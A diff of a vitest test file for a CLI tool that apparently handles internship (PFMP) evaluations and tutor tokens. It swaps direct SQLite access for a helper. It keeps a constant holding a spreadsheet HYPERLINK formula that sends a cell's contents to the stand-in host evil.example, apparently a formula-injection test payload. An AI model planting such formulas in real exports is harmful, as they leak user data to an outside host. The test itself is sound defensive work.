@@ -3,10 +3,10 @@ import { afterAll, beforeAll, describe, expect, it } from 'vitest';
 import { spawnSync } from 'node:child_process';
 import { mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from 'node:fs';
 import { join } from 'node:path';
-import Database from 'better-sqlite3';
 import JSZip from 'jszip';
 import { cpro, cproJson, tempDir, FIXTURES } from '../helpers/cli.js';
 import { requireTool } from '../helpers/tools.js';
+import { sqlRow } from '../helpers/engine.js';
 
 const HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1;"Cliquez ici")';
 
@@ -30,9 +30,7 @@ beforeAll(() => {
   const eml = readdirSync(join(dir, 'outbox')).find((f) => f.endsWith('.eml'))!;
   const message = readFileSync(join(dir, 'outbox', eml), 'utf8').replace(/=\r?\n/g, '').replace(/=3D/g, '='); // quoted-printable
   token = /jeton=([A-Za-z0-9_-]{20,})/.exec(message)![1];
-  const store = new Database(db, { readonly: true });
-  tokenHash = store.prepare<[], { h: string }>('SELECT token_hash AS h FROM tutor_tokens').get()!.h;
-  store.close();
+  tokenHash = sqlRow<{ h: string }>(db, 'SELECT token_hash AS h FROM tutor_tokens')!.h;
   ok(run('eval', 'import', join(FIXTURES, 'bilans-entreprise-pfmp2.csv'), '--period', 'PFMP 2', '--type', 'entreprise'));
   ok(run('bilan-personnel', 'import', join(FIXTURES, 'bilans-personnels-pfmp2.csv'), '--period', 'PFMP 2'));
   ok(run('portfolio', 'import', join(FIXTURES, 'portfolios'), '--period', 'PFMP 2'));
